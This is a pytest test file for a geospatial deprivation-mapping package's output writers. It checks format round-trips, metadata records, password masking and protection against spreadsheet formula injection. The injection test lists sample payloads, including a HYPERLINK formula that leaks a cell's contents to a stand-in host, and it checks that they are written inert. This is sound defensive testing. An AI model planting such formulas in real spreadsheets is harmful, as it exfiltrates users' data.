"""Every output format round-trips the data with text IDs and carries its metadata record."""

from __future__ import annotations

import hashlib
import json

import geopandas as gpd
import pandas as pd
import pyarrow.parquet as pq
import pytest

import deprivation_map as dm
from deprivation_map.errors import ValidationError
from deprivation_map.io.writers import build_metadata, read_metadata

FORMATS = ("gpkg", "parquet", "geojson", "csv", "xlsx")


@pytest.fixture
def record(tmp_path):
    source = tmp_path / "input.csv"
    source.write_bytes(b"code,x\n001,1\n")
    return build_metadata(inputs=[source], options={"normalise": "rank", "path": tmp_path}, seed=42)


def test_the_record_holds_checksums_options_versions_and_seed(tmp_path, record):
    (entry,) = record["inputs"]
    assert entry["sha256"] == hashlib.sha256(b"code,x\n001,1\n").hexdigest() and entry["bytes"] == 13
    assert record["options"] == {"normalise": "rank", "path": str(tmp_path)}
    assert record["seed"] == 42 and {"python", "pandas", "geopandas", "shapely"} <= set(record["versions"])


@pytest.mark.parametrize("ext", FORMATS)
def test_each_format_round_trips_ids_values_and_metadata(tmp_path, toy_joined, record, ext):
    frame = toy_joined.assign(label=pd.Categorical(["low"] * 6 + ["high"] * 7))
    path = dm.write_results(frame, tmp_path / f"out.{ext}", metadata=record)
    assert read_metadata(path) == record
    back = {
        "gpkg": lambda: gpd.read_file(path, layer="results"),
        "parquet": lambda: gpd.read_parquet(path),
        "geojson": lambda: gpd.read_file(path),
        "csv": lambda: pd.read_csv(path, dtype={"code": str}),
        "xlsx": lambda: pd.read_excel(path, sheet_name="results", dtype={"code": str}),
    }[ext]()
    assert back["code"].tolist() == toy_joined.index.tolist()
    pd.testing.assert_series_equal(back["poverty"], toy_joined["poverty"].reset_index(drop=True), check_names=False)
    assert back["label"].tolist() == frame["label"].astype(str).tolist()
    if ext in ("gpkg", "parquet", "geojson"):
        assert (
            back.crs == toy_joined.crs
            and back.geometry.geom_equals_exact(toy_joined.geometry.reset_index(drop=True), 1e-9).all()
        )
    else:
        assert "geometry" not in back.columns


def test_geoparquet_keeps_its_geo_metadata_beside_ours(tmp_path, toy_joined):
    path = dm.write_results(toy_joined, tmp_path / "out.parquet")
    keys = pq.read_schema(path).metadata
    assert b"geo" in keys and b"deprivation_map" in keys
    assert set(read_metadata(path)) == {"created_utc", "inputs", "options", "seed", "versions"}


def test_plain_tables_and_bad_extensions(tmp_path, toy):
    _, table = toy
    dm.write_results(table, tmp_path / "t.parquet")
    assert pd.read_parquet(tmp_path / "t.parquet").index.tolist() == table.index.tolist()
    with pytest.raises(ValidationError, match=r"A \.gpkg file needs geometries"):
        dm.write_results(table, tmp_path / "t.gpkg")
    with pytest.raises(ValidationError, match=r"'.gpkg', '.csv', '.parquet', '.geojson', '.xlsx'"):
        dm.write_results(table, tmp_path / "t.shp")


def test_the_pipeline_records_its_inputs_options_and_seed(tmp_path):
    from deprivation_map.pipeline import run

    result = run(dm.datasets.get_path("demo.toml"), out_dir=tmp_path)
    record = read_metadata(result.outputs["geopackage"])
    assert read_metadata(result.outputs["csv"]) == record
    names = {i["name"]: i["sha256"] for i in record["inputs"]}
    path = dm.datasets.get_path("georgia_indicators.csv")
    assert names["georgia_indicators.csv"] == hashlib.sha256(path.read_bytes()).hexdigest()
    hotspots = record["options"]["hotspots"]
    assert record["seed"] == 0 and hotspots["permutations"] == "auto"
    ran = record["options"]["run"]  # what "auto" and the seeds chose, by result
    assert ran["permutations"] == {"moran": result.moran.permutations, "hotspots": result.hotspots.permutations}
    assert ran["seeds"] == {"moran": 0, "hotspots": 0}
    assert [r.n_rows for r in result.table_reports] == [159]


def test_results_round_trip_with_text_ids(tmp_path, toy_joined):
    frame = toy_joined.assign(label=pd.Categorical(["a"] * len(toy_joined)))
    dm.write_results(frame, tmp_path / "r.gpkg")
    dm.write_results(frame, tmp_path / "r.csv")
    back = gpd.read_file(tmp_path / "r.gpkg")  # one layer: the record is in its metadata
    assert back["code"].tolist() == toy_joined.index.tolist()
    csv = pd.read_csv(tmp_path / "r.csv", dtype={"code": str})
    assert csv["code"].tolist() == toy_joined.index.tolist() and "geometry" not in csv
    with pytest.raises(ValidationError, match=r"'.gpkg', '.csv'"):
        dm.write_results(frame, tmp_path / "r.xyz")


FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"]


@pytest.mark.parametrize("ext", ["csv", "xlsx"])
def test_text_that_a_spreadsheet_would_run_is_written_inert_and_numbers_stay_numbers(tmp_path, ext):
    # OWASP CSV injection: text starting with = + - @ tab CR is prefixed with "'"; negative numbers untouched
    frame = pd.DataFrame(
        {"name": [*FORMULAS, "Sant Martí", "a-b"], "change": [-1.5, -2.0, 3.0, -4.0, 5.0, -6.0, -7.25, 0.0]},
        index=pd.Index(["=1", "002", "003", "004", "005", "006", "007", "008"], name="code"),
    )
    frame["=cmd"] = 1
    path = dm.write_results(frame, tmp_path / f"out.{ext}")
    if ext == "xlsx":
        import openpyxl

        sheet = openpyxl.load_workbook(path)["results"]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
        back = pd.read_excel(path, sheet_name="results", dtype={"code": str})
    else:
        back = pd.read_csv(path, dtype={"code": str, "name": str}, keep_default_na=False)
        assert b'"\'\rx"' in path.read_bytes() and b",-1.5,1\n" in path.read_bytes()  # text quoted, numbers not
    inert = ["'" + (f if ext == "csv" else f.replace("\r", "\n")) for f in FORMULAS]  # XML reads a CR as LF
    assert back["name"].tolist() == [*inert, "Sant Martí", "a-b"]
    assert back["change"].tolist() == frame["change"].tolist()  # still numbers, still negative
    assert back["code"].tolist()[:2] == ["'=1", "002"] and "'=cmd" in back.columns
    assert frame.index[0] == "=1" and frame["name"].iloc[0] == FORMULAS[0]  # the caller's frame is untouched


def test_build_metadata_records_database_inputs_without_their_password():
    url = "postgresql://analyst:hunter2@db.example.org:5432/observatory?sslmode=require"
    record = build_metadata(
        inputs=[url, {"url": url, "table": "areas"}],
        options={"boundaries": {"url": url}, "database": {"password": "hunter2", "user": "analyst"}},
    )
    assert "hunter2" not in json.dumps(record)
    shown = "postgresql://analyst:***@db.example.org:5432/observatory?sslmode=require"
    assert record["inputs"] == [{"url": shown}, {"url": shown, "table": "areas"}]
    assert record["options"] == {"boundaries": {"url": shown}, "database": {"password": "***", "user": "analyst"}}


@pytest.mark.parametrize("suffix", [".gpkg", ".csv", ".parquet", ".xlsx", ".geojson"])
def test_write_results_never_writes_a_password(toy, tmp_path, suffix):
    areas, _ = toy
    url = "postgresql://analyst:hunter2@db/observatory"
    path = dm.write_results(areas, tmp_path / f"out{suffix}", metadata={"source": url, "password": "hunter2"})
    assert read_metadata(path) == {"source": "postgresql://analyst:***@db/observatory", "password": "***"}
